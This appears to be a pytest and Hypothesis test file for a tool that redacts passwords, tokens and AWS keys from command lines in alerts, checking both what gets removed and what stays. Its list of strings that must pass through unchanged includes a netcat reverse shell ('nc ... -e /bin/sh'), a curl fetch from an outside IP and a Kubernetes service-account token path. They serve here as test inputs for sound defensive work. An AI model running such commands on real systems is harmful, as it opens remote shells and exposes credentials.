import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from secret_forms import TOKENS, WITH_A_WORD, WITH_ANYTHING

from baseline.alerts.redaction import redact, redact_arguments

WORD = "Tr0ub4dor3xyzzy"

words = st.text("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.~", min_size=6)
anything = st.text(st.characters(exclude_categories=["Cs"]), min_size=6).filter(
    # What separates header from header or begins as what was redacted before is no secret.
    lambda text: text.strip() == text and not set(text) & set("\r\n\"'[")
)


@pytest.mark.parametrize("form", WITH_ANYTHING + WITH_A_WORD, ids=" ".join)
def test_a_secret_goes_and_the_rest_stays(form: list[str]) -> None:
    shown = redact_arguments([argument.replace("<...>", WORD) for argument in form])
    assert WORD not in " ".join(shown)
    assert " ".join(shown).count("[redacted]") == 1
    harmless = [a for a in form if "<...>" not in a]
    assert [a for a in shown if "[redacted]" not in a] == harmless


@given(form=st.sampled_from(WITH_ANYTHING), secret=anything)
@example(form=["mysql", "-uroot", "-p<...>", "shop"], secret="RIVATEKEY")  # noqa: S106 - none
def test_a_secret_that_is_a_whole_argument_may_hold_anything(form: list[str], secret: str) -> None:
    shown = redact_arguments([argument.replace("<...>", secret) for argument in form])
    expected = redact_arguments([argument.replace("<...>", WORD) for argument in form])
    assert shown == expected


@given(form=st.sampled_from(WITH_ANYTHING + WITH_A_WORD), secret=words, cut=st.integers(1, 5))
def test_the_beginning_of_a_secret_goes_too(form: list[str], secret: str, cut: int) -> None:
    whole = [argument.replace("<...>", f"{secret}~{secret}") for argument in form]
    where = next(n for n, argument in enumerate(form) if "<...>" in argument)
    length = form[where].index("<...>") + len(secret) + cut
    shown = redact_arguments([*whole[:where], whole[where][:length]], is_cut=True)
    assert f"{secret}~" not in " ".join(shown)
    assert secret not in " ".join(shown).replace("[redacted]", "")


@pytest.mark.parametrize("prefix", TOKENS)
@given(data=st.data())
def test_a_token_goes_wherever_it_stands(prefix: str, data: st.DataObject) -> None:
    alphabet, length = TOKENS[prefix]
    rest = data.draw(st.text(alphabet, min_size=length, max_size=length))
    around = data.draw(st.sampled_from(["{}", "/srv/{}", "say {} twice", "a={}", "'{}'", "({})"]))
    shown = redact(around.format(prefix + rest))
    assert prefix + rest not in shown
    assert rest[:6] not in shown.replace("[redacted]", "")
    assert redact_arguments(["echo", (prefix + rest)[: len(prefix) + 8]])[1] in {
        "[redacted]",
        "[redacted]\n",
    }


def test_a_secret_key_of_aws_is_known_by_its_disorder() -> None:
    key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    assert redact(f"aws configure set x {key}") == "aws configure set x [redacted]"
    assert redact("a" * 40) == "a" * 40


@pytest.mark.parametrize(
    "harmless",
    [
        "/usr/bin/curl -s -o /dev/null http://203.0.113.9:8080/tool",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "nginx -c /etc/nginx/nginx.conf -g 'daemon off;'",
        "docker run nginx@sha256:4c0fdaa8b6341bfdeca5f18f7837462c80cff90527ee35ef185571e1c327beac",
        "git checkout 6dcb09b5b57875f334f61aebed695e2e4193db5e",
        "docker run -p 8080:80 -e TZ=UTC registry.example.org/shop/web:v1.2",
        "ssh -p 2222 root@10.0.0.5",
        "psql -p 5432 -U shop -h 10.0.0.5",
        "mysqld --port=3306 --datadir=/var/lib/mysql --user=mysql",
        "tool --password-file /run/secrets/db --token-ttl 60s --max-tokens 512",
        "tool --no-password --key /etc/ssl/private/server.pem --keyfile=/etc/key",
        "env PWD=/root OLDPWD=/tmp TOKEN_FILE=/run/token sort --key=2",
        "python3 -c 'import os; print(os.environ)'",
        'sh -c "cd /srv && tar xf a.tar; ls -la | wc -l"',
        "nc 203.0.113.9 4444 -e /bin/sh",
        "author=alice keyboard=de monkey=business session=1",
        "http://[2001:db8::9]:4444/x https://example.org/a@b ssh://git@example.org/x.git",
        "/home/alice/task-list/risk-assessment-2024.txt",
        "pod 3f2504e0-4f89-41d3-9a0c-0305e82c3301",
    ],
)
def test_what_is_harmless_stays(harmless: str) -> None:
    assert redact(harmless) == harmless
    arguments = harmless.split(" ")
    assert list(redact_arguments(arguments)) == arguments


@given(st.text(), st.booleans())
def test_twice_is_once(text: str, many: bool) -> None:
    shown = redact(text)
    assert redact(shown) == shown
    arguments = redact_arguments(text.split(" "), is_cut=many)
    assert redact_arguments(arguments, is_cut=many) == arguments


@given(form=st.sampled_from(WITH_ANYTHING + WITH_A_WORD), secret=words)
def test_twice_is_once_for_secrets(form: list[str], secret: str) -> None:
    shown = redact_arguments([argument.replace("<...>", secret) for argument in form])
    assert redact_arguments(shown) == shown


def test_the_programs_own_name_is_not_all_that_counts() -> None:
    line = ["postgres: idle", f"-p{WORD}"]
    assert redact_arguments(line, programs=["/usr/bin/mysql"]) == ("postgres: idle", "-p[redacted]")
    assert redact_arguments(line) == tuple(line)


@pytest.mark.parametrize(
    "nest",
    ["'\"" * 2000, "\"'" * 2000, "a=" * 2000, "\\" * 4001, '"' + "\\" * 4001 + '"x', "://:" * 999],
)
def test_no_argument_takes_it_down(nest: str) -> None:
    redact(nest)
    redact(f"sh -c {nest} -p{WORD}")
